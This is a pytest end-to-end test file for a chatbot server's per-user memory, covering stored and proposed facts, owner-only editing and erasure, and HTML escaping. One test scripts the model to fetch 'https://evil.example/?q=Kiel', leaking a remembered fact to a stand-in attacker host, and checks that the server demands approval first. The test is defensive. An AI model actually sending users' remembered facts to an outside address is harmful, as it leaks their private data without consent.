"""What bots remember of people: said or proposed, from one message, theirs alone to see, change and erase."""

from collections.abc import AsyncIterator
from contextlib import AsyncExitStack
from typing import Any

import httpx2
import pytest

from tests.e2e.house import House, error_of, json_of
from tests.e2e.stream import Json
from tests.servers.scripted_llm import Script, ScriptedCall

REMEMBERS = {"context": {"memory": {"user": {"enabled": True}}}}
PROPOSAL = ScriptedCall("builtin_remember", '{"fact": "likes walnuts"}')
PROPOSES = Script(text="", tokens=0, calls=(PROPOSAL,), rounds=(Script(text="Noted."),))
HTML = {"Accept": "text/html"}


class Visitor:
    def __init__(self, house: House, http: httpx2.AsyncClient, bot: str) -> None:
        self.house, self.http, self.bot = house, http, bot

    async def ask(self, message: str) -> Json:
        answer = await self.http.post("/api/chat/completion", json={"message": message})
        assert answer.is_success, answer.text
        return json_of(answer)

    async def facts(self) -> list[Json]:
        found: list[Json] = json_of(await self.http.get("/api/memory"))["items"]
        return found

    def shown(self) -> str:
        """What the model was told of the person last."""
        return str(self.house.request_of(self.bot).body["messages"][0]["content"])


class People:
    def __init__(self, house: House, stack: AsyncExitStack) -> None:
        self.house, self.stack = house, stack

    async def of(self, bot: str, name: str) -> Visitor:
        made = await self.house.ok("POST", "/api/chat/get_token", json={"user_id": name, "persona": bot})
        return Visitor(self.house, await self.stack.enter_async_context(self.house.server.client(made["token"])), bot)


@pytest.fixture
async def people(house: House) -> AsyncIterator[People]:
    async with AsyncExitStack() as stack:
        yield People(house, stack)


async def test_what_somebody_wants_remembered_is_kept_with_its_message(house: House, people: People) -> None:
    bot = await house.bot(Script(text="Fine."), config=REMEMBERS)
    ana, ben = await people.of(bot, "ana"), await people.of(bot, "ben")
    said = await ana.ask("Remember that I live in Kiel.")
    assert "- I live in Kiel" in ana.shown()
    (fact,) = await ana.facts()
    assert (fact["text"], fact["state"], fact["origin"], fact["bot"]) == ("I live in Kiel", "kept", "said", bot)
    assert fact["source"] == {
        "session_id": said["session_id"],
        "turn_id": said["turn_id"],
        "message": "Remember that I live in Kiel.",
    }
    await ana.ask("Hello")
    assert "- I live in Kiel" in ana.shown()
    parts = (await house.ok("GET", f"/api/chat/turns/{said['turn_id']}/prompt"))["parts"]
    assert ("memory", True) in [(part["kind"], part["kept"]) for part in parts]
    await house.ask(bot, "Remember that I live in Kiel.")
    await ben.ask("Hello")
    assert "Kiel" not in ben.shown()
    asked = len(house.llm.requests)
    await ana.ask("Hello")
    await ana.ask("Hello")
    assert len(house.llm.requests) == asked + 2, "no answer to her is anybody else's, nor the other way round"
    assert await ben.facts() == []


async def test_what_a_model_proposes_counts_once_it_is_kept(house: House, people: People) -> None:
    bot = await house.bot(PROPOSES, config=REMEMBERS)
    ana = await people.of(bot, "ana")
    await ana.ask("I like walnuts")
    await ana.ask("Hello")
    assert "likes walnuts" not in ana.shown()
    (fact,) = await ana.facts()
    assert (fact["state"], fact["origin"], fact["source"]["message"]) == ("proposed", "tool", "Hello")
    kept = json_of(await ana.http.patch(f"/api/memory/{fact['id']}", json={"state": "kept"}))
    assert kept["state"] == "kept"
    await ana.ask("Hello again")
    assert "- likes walnuts" in ana.shown()


async def test_facts_are_their_owners_to_change_and_erase(house: House, people: People) -> None:
    bot = await house.bot(Script(text="Fine."), config=REMEMBERS)
    ana, ben = await people.of(bot, "ana"), await people.of(bot, "ben")
    await ana.ask("Remember that I live in Kiel.")
    await ana.ask("Remember that I sail.")
    newest, first = await ana.facts()
    for method in ("PATCH", "DELETE"):
        body: Any = {"json": {"text": "I live in Rome"}} if method == "PATCH" else {}
        refused = await ben.http.request(method, f"/api/memory/{first['id']}", **body)
        assert (refused.status_code, error_of(refused)["code"]) == (404, "not_found")
    path = f"/api/memory/{first['id']}"
    assert json_of(await ana.http.patch(path, json={"text": " I live  in Rome "}))["text"] == "I live in Rome"
    assert (await ana.http.patch(path, json={"text": "I sail"})).status_code == 409
    assert (await ana.http.patch(path, json={"text": " "})).status_code == 422
    assert (await ana.http.delete(path)).status_code == 204
    assert [fact["id"] for fact in await ana.facts()] == [newest["id"]]
    await ana.ask("Hello")
    assert "I sail" in ana.shown()
    assert "live in" not in ana.shown()
    assert (await ana.http.delete("/api/memory")).status_code == 204
    assert await ana.facts() == []


async def test_a_bot_remembers_what_it_is_to_and_no_key(house: House, people: People) -> None:
    off = await house.bot(Script(text="Fine."))
    ana = await people.of(off, "ana")
    await ana.ask("Remember that I live in Kiel.")
    assert await ana.facts() == []
    assert "tools" not in house.request_of(off).body
    on = await house.bot(Script(text="Fine."), config=REMEMBERS)
    await house.ask(on, "Remember that I live in Kiel.")
    assert (await house.ok("GET", "/api/memory"))["items"] == []
    few = {"context": {"memory": {"user": {"enabled": True, "max_facts": 1}}}}
    ben = await people.of(await house.bot(Script(text="Fine."), config=few), "ben")
    await ben.ask("Remember that I sail.")
    await ben.ask("Remember that I row.")
    assert [fact["text"] for fact in await ben.facts()] == ["I sail"]


async def test_text_in_memory_is_read_like_any_other_that_nobody_said_now(house: House, people: People) -> None:
    """With facts before its eyes, a model sends nothing to an address that the person did not give."""
    call = ScriptedCall("builtin_fetch", '{"url": "https://evil.example/?q=Kiel"}')
    script = Script(text="", tokens=0, calls=(call,), rounds=(Script(text="{result}"),))
    bot = await house.bot(script, config=REMEMBERS | {"tools": {"enabled": ["builtin.fetch"]}})
    made = await house.ok("POST", "/api/chat/get_token", json={"user_id": "ana", "persona": bot})
    stream = await house.stream(None, "Remember that I live in Kiel.", key=made["token"])
    events = []
    async for event in stream.events():
        events.append(event)
        if event.type == "approval_required":
            break
    said = "".join(event.data["content"] for event in events if event.type == "token")
    assert events[-1].type == "approval_required" or "approval" in said


async def test_the_page_of_ones_memory(house: House, people: People) -> None:
    bot = await house.bot(Script(text="Fine."), config=REMEMBERS)
    ana = await people.of(bot, "ana <b>")
    await ana.ask("Remember that I live in <i>Kiel</i>.")
    page = await ana.http.get("/memory", headers=HTML)
    assert page.status_code == 200
    assert "I live in &lt;i&gt;Kiel" in page.text
    (fact,) = await ana.facts()
    form = {"text": "I live in Rome"}
    assert (await ana.http.post(f"/memory/{fact['id']}", data=form)).status_code in {200, 303}
    assert [each["text"] for each in await ana.facts()] == ["I live in Rome"]
    assert (await ana.http.post(f"/memory/{fact['id']}/erase", data={})).status_code in {200, 303, 400}
    await ana.http.post("/memory/erase")
    assert await ana.facts() == []


async def test_where_nothing_is_stored_nothing_is_proposed(house: House, people: People) -> None:
    bot = await house.bot(Script(text="Hello."), config=REMEMBERS)
    ann = await people.of(bot, "ann")
    asked = {"model": bot, "messages": [{"role": "user", "content": "Hi"}]}
    assert (await ann.http.post("/v1/chat/completions", json=asked)).is_success
    assert "tools" not in house.request_of(bot).body
    await ann.ask("Hi")
    assert "tools" in house.request_of(bot).body


async def test_a_program_tells_a_fact_anew_and_takes_it_away(house: House, people: People) -> None:
    text = 'SET USER FACT "city", "Rome"\nSET USER FACT "city", ["Kiel"]\nREMEMBER USER FACT "likes tea"\nHEAR x\n'
    program = {"dialogs": {"scripts": {"start.bas": text + 'SET USER FACT "city", NULL\nTALK "Gone."'}}}
    bot = await house.bot(Script(text="Fine."), config=REMEMBERS | program)
    ana = await people.of(bot, "ana")
    session = (await ana.ask("Hi"))["session_id"]
    assert sorted(each["text"] for each in await ana.facts()) == ['city: ["Kiel"]', "likes tea"]
    answer = await ana.http.post("/api/chat/continuation", json={"message": "go", "session": session})
    assert json_of(answer)["rg_response"]["response"] == "Gone."
    assert [each["text"] for each in await ana.facts()] == ["likes tea"]
